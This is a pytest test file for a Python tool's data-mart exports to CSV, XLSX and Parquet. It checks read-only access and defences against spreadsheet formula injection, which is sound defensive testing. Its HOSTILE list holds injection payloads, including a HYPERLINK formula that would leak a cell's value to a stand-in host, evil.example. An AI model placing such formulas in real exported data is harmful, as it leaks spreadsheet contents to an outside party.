"""Mart exports: every format, read-only, and no formula a spreadsheet would run (OWASP CSV injection)."""

from __future__ import annotations

import csv
import hashlib
from pathlib import Path

import duckdb
import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from kizuna.reporting.export import ExportError, export_mart, neutralise

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+81-3-0000-0000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
PLAIN = ["株式会社みらい物産", "a=b", "ACME 'quoted'"]


@pytest.fixture
def warehouse(tmp_path: Path) -> Path:
    path = tmp_path / "warehouse.duckdb"
    con = duckdb.connect(str(path))
    try:
        con.execute("CREATE SCHEMA marts")
        con.execute(
            "CREATE TABLE marts.customers (customer_id VARCHAR, name VARCHAR, mrr DECIMAL(18,2), delta INTEGER, "
            "first_paid_month DATE)"
        )
        for i, name in enumerate(HOSTILE + PLAIN):
            con.execute(
                "INSERT INTO marts.customers VALUES (?, ?, ?, ?, DATE '2026-01-01')", [f"C{i}", name, 1000 + i, -i]
            )
    finally:
        con.close()
    return path


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.mark.parametrize("value", HOSTILE, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_neutralise_prefixes_formula_starts(value: str) -> None:
    assert neutralise(value) == "'" + value


def test_csv_neutralises_text_and_keeps_numbers(warehouse: Path, tmp_path: Path) -> None:
    before = digest(warehouse)
    path, rows = export_mart(warehouse, "customers", "csv", tmp_path / "out" / "customers.csv")
    assert rows == len(HOSTILE) + len(PLAIN)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel in Japan reads UTF-8 correctly
    with path.open(encoding="utf-8-sig", newline="") as fh:
        records = list(csv.DictReader(fh))
    names = [r["name"] for r in records]
    assert names == ["'" + v for v in HOSTILE] + PLAIN
    assert [r["delta"] for r in records][:3] == ["0", "-1", "-2"]  # numbers are not text: left alone
    assert digest(warehouse) == before  # read-only


def test_xlsx_cells_are_text_not_formulas(warehouse: Path, tmp_path: Path) -> None:
    path, _ = export_mart(warehouse, "customers", "xlsx", tmp_path / "customers.xlsx")
    sheet = load_workbook(path).active
    header = [c.value for c in sheet[1]]
    assert header == ["customer_id", "name", "mrr", "delta", "first_paid_month"]
    names = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in names)  # 'f' would be a formula
    # XML reads a stored CR back as LF; what matters is the apostrophe in front.
    assert [c.value for c in names] == ["'" + v.replace("\r", "\n") for v in HOSTILE] + PLAIN
    deltas = [row[3].value for row in sheet.iter_rows(min_row=2)]
    assert deltas[:3] == [0, -1, -2]


def test_parquet_keeps_values_as_they_are(warehouse: Path, tmp_path: Path) -> None:
    path, _ = export_mart(warehouse, "customers", "parquet", tmp_path / "customers.parquet")
    with duckdb.connect() as con:
        names = [
            r[0] for r in con.execute("SELECT name FROM read_parquet(?) ORDER BY customer_id", [str(path)]).fetchall()
        ]
    assert sorted(names) == sorted(HOSTILE + PLAIN)


def test_unknown_mart_and_format_say_what_exists(warehouse: Path, tmp_path: Path) -> None:
    with pytest.raises(ExportError, match=r"no mart 'raw_stuff' .*marts: customers"):
        export_mart(warehouse, "raw_stuff", "csv", tmp_path / "x.csv")
    with pytest.raises(ExportError, match="use one of csv, parquet, xlsx"):
        export_mart(warehouse, "customers", "json", tmp_path / "x.json")  # type: ignore[arg-type]
    assert not list(tmp_path.glob("x.*"))


def test_export_cli(warehouse: Path, tmp_path: Path) -> None:
    from kizuna.cli import app

    out = tmp_path / "c.xlsx"
    result = CliRunner().invoke(
        app, ["export", "customers", "--format", "xlsx", "--out", str(out), "--warehouse", str(warehouse)]
    )
    assert result.exit_code == 0, result.output
    assert str(out) in result.output and out.exists()


def test_sql_prompt_reads_only(warehouse: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from kizuna.cli import app

    monkeypatch.setenv("PATH", "/nonexistent")  # no duckdb CLI: the minimal prompt answers
    result = CliRunner().invoke(
        app,
        ["sql", "--warehouse", str(warehouse)],
        input="SELECT count(*) AS n FROM marts.customers\nDELETE FROM marts.customers\n\n",
    )
    assert result.exit_code == 0, result.output
    assert "duckdb.connect(" in result.output and "read_only=True" in result.output
    assert "9" in result.output
    assert "read-only" in result.output.lower()  # DuckDB refuses the DELETE
    with duckdb.connect(str(warehouse), read_only=True) as con:
        assert con.execute("SELECT count(*) FROM marts.customers").fetchone() == (9,)


def _shuffled_customer_months(path: Path) -> list[tuple[str, str]]:
    """marts.customer_mrr_monthly (grain customer_id, month in its dbt YAML) stored in no particular order."""
    keys = [(c, f"2026-{m:02d}-01") for c in ("C2", "C10", "C1") for m in (11, 9, 10)]
    with duckdb.connect(str(path)) as con:
        con.execute("CREATE TABLE marts.customer_mrr_monthly (month DATE, customer_id VARCHAR, mrr INTEGER)")
        con.executemany("INSERT INTO marts.customer_mrr_monthly VALUES (?, ?, 1000)", [(m, c) for c, m in keys])
    return sorted(keys)


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "parquet"])
def test_export_writes_to_var_exports_sorted_by_the_grain(
    warehouse: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fmt: str
) -> None:
    from kizuna.cli import app

    expected = _shuffled_customer_months(warehouse)
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    monkeypatch.chdir(cwd)
    monkeypatch.setenv("KIZUNA_VAR_DIR", str(tmp_path / "var"))
    result = CliRunner().invoke(app, ["export", "customer_mrr_monthly", "--format", fmt, "--warehouse", str(warehouse)])
    assert result.exit_code == 0, result.output
    path = tmp_path / "var" / "exports" / f"customer_mrr_monthly.{fmt}"
    assert str(path) in result.output and path.exists()
    assert list(cwd.iterdir()) == []  # nothing left where the command happened to run
    if fmt == "csv":
        with path.open(encoding="utf-8-sig", newline="") as fh:
            got = [(r["customer_id"], r["month"]) for r in csv.DictReader(fh)]
    elif fmt == "xlsx":
        sheet = load_workbook(path).active
        got = [(r[1], r[0].date().isoformat()) for r in sheet.iter_rows(min_row=2, values_only=True)]
    else:
        with duckdb.connect() as con:
            rows = con.execute("SELECT customer_id, month::VARCHAR FROM read_parquet(?)", [str(path)]).fetchall()
        got = [(str(c), str(m)) for c, m in rows]
    assert got == expected  # C1, C10, C2 as text: the key's own order, stable from one export to the next


def test_xlsx_has_a_frozen_header_row_and_filters(warehouse: Path, tmp_path: Path) -> None:
    path, rows = export_mart(warehouse, "customers", "xlsx", tmp_path / "customers.xlsx")
    sheet = load_workbook(path).active
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:E{rows + 1}"
